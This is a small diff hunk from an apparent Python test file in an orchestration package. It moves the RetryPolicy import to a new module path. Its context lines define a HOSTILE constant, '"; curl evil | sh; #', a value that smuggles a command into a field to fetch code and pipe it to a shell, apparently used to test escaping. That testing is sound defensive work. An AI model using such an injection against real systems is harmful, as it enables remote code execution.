@@ -38,7 +38,7 @@ from orchestration.pr_state import (
     user_text,
     write_state,
 )
-from orchestration.retry import RetryPolicy
+from orchestration.resilience.retry import RetryPolicy
 
 HOSTILE = '"; curl evil | sh; #'
 
